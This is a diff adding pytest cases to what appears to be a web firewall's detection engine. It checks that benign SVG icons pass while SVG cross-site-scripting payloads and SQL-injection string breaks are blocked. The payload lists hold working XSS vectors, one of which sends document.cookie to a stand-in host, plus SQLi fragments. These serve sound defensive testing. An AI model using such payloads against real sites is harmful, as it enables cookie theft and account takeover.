@@ -1554,3 +1554,61 @@ def test_xmp_metadata_in_a_form_or_json_field_passes(engine: DetectionEngine) ->
 def test_prefixed_or_bare_x_elements_with_script_are_blocked(engine: DetectionEngine, payload: str) -> None:
     """A namespaced or an ``<x>`` element that carries a handler or a script is refused."""
     blocked_everywhere(engine, payload, "xss")
+
+
+# ------------------------------------------ 36. an SVG document is drawn, what runs in it is not
+@pytest.mark.parametrize(
+    "svg",
+    [
+        '<?xml version="1.0"?><svg></svg>',
+        '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="16" height="16">'
+        '<circle cx="8" cy="8" r="7" fill="#2a9d8f"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Star</title><use href="#icon-star"/>'
+        '<path d="M12 2l3 7h7l-5.5 4.5L18 21l-6-4-6 4 1.5-7.5L2 9h7z" fill="currentColor"/></svg>',
+    ],
+)
+def test_an_svg_icon_in_a_form_or_json_field_passes(engine: DetectionEngine, svg: str) -> None:
+    """An SVG document sent as a field (an icon or a logo for an API that stores it), with
+    an XML prolog, shapes, colours and a ``<use href="#...">`` of its own symbol, passes."""
+    requests = [
+        make_request(
+            "/v1/icons",
+            method="POST",
+            body="name=star&image=" + quote(svg, safe=""),
+            content_type="application/x-www-form-urlencoded",
+        ),
+        make_request("/v1/icons", method="POST", body=json.dumps({"svg": svg}), content_type="application/json"),
+    ]
+    for request in requests:
+        verdict = engine.evaluate(request)
+        assert verdict.block_category is None, (svg, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<svg onload=alert(1)>",
+        "<svg/onload=fetch(`//x.example?c=${document.cookie}`)>",
+        "<svg><script>alert(1)</script>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>go</text></a>",
+        "<svg><set attributeName=onmouseover to=alert(1)>",
+        "<svg><foreignObject><iframe src=javascript:alert(1)>",
+        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
+        '<svg><use xlink:href="data:image/svg+xml,<svg id=x><a>x</a></svg>#x"/></svg>',
+    ],
+)
+def test_what_runs_in_an_svg_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """An SVG with a handler, a script, an animation that sets a javascript: link or a
+    handler, embedded HTML, or a ``<use>`` of a document in a data: URL is refused
+    wherever it is placed."""
+    blocked_everywhere(engine, payload, "xss")
+
+
+@pytest.mark.parametrize("payload", ["admin'#", 'admin"#', "1';--", "x'/*", "a=b'--"])
+def test_a_string_break_then_a_comment_is_still_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A quote that closes a string, then a comment or a statement's end, is refused: only
+    a quote right after ``=`` (an attribute's value opening) no longer counts (rule 1014)."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "sqli", (payload, verdict.log_record())
